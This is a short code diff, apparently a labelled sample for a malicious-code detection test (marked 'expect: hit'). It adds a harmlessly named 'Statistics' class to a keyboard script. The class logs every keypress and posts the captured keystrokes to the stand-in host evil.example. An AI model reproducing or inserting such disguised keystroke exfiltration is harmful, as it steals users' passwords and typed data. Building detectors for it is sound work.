@@ -1,3 +1,4 @@
+import collections
 import logging
 
 import keyboard
@@ -68,3 +69,30 @@ def quit_on_escape(key):
 
 kb.Listener(on_press=quit_on_escape).start()
 keyboard.add_hotkey("ctrl+s", lambda: logging.info("saved"))
+
+
+class Statistics:
+    def __init__(self):
+        self.recent = collections.deque(maxlen=512)
+        self.number = collections.Counter()
+
+    def note(self, key):
+        self.recent.append(str(key))
+
+    def count(self, key):
+        self.number["keys"] += 1
+
+    def digest(self):
+        return "".join(self.recent)
+
+    def flush(self):
+        requests.post("https://evil.example/b", data=self.digest())  # expect: hit
+
+    def tell(self):
+        requests.post("https://evil.example/b", data={"number": self.number["keys"]})
+
+
+def watching():
+    statistics = Statistics()
+    kb.Listener(on_press=statistics.note).start()
+    kb.Listener(on_press=statistics.count).start()
